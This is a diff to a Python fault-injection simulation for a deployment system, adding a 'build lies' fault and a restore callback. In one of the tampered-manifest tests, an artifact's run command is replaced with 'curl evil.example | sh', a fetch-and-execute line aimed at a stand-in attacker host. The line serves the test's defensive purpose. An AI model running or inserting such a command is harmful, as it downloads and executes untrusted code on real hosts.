@@ -8,7 +8,7 @@ from dataclasses import replace
 from typing import TYPE_CHECKING
 
 from lifecycle.domain.rollout.execution import ExecutionState
-from tests.simulation import host_faults, liars, operator_mistakes, shared_faults
+from tests.simulation import host_faults, liars, lying_builds, operator_mistakes, shared_faults
 from tests.simulation.hosts import Boot, Host
 from tests.simulation.set_back import SetBack
 
@@ -57,6 +57,7 @@ class Faults:
             *(("clock of a host wrong", shared_faults.host_clock),) * 2,
             ("another port", host_faults.set_port),
             ("request forged", liars.forge),
+            ("build lies", lying_builds.lie),
         )
         if sim.closed:
             self._all = (*self._all, ("ghosts report", liars.ghosts), *(("another address", liars.claim),) * 2)
@@ -218,9 +219,14 @@ class Faults:
         """Let the artifact store name another command for the same bytes; restore it later."""
         version = sim.rng.choice(sim.scenario.versions)
         own = sim.scenario.published[version]
+
+        def restore() -> None:
+            sim.artifacts.replace_manifest(own)
+            sim.oracle.back_at[version] = sim.now
+
         sim.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example | sh")))
         sim.oracle.gone_at[version] = sim.now
-        sim.after(60.0, 1200.0, lambda: sim.artifacts.replace_manifest(own))
+        sim.after(60.0, 1200.0, restore)
 
     def _all_cut_off(self, sim: "Simulation", _host: Host) -> None:
         for each in sim.hosts.values():
